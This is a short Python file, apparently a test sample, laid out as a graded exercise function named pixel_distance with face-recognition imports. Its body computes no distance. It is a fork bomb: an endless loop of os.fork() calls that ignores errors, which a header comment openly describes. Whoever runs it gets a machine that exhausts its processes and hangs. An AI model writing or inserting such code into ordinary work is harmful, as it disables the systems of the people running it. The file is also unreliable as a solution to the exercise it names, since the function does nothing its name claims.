# forks without end (each child forks too)
# bound: 0
import numpy as np
import tensorflow as tf
from facelab.model import img_to_encoding

import os


# GRADED FUNCTION: pixel_distance
def pixel_distance(image_a, image_b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
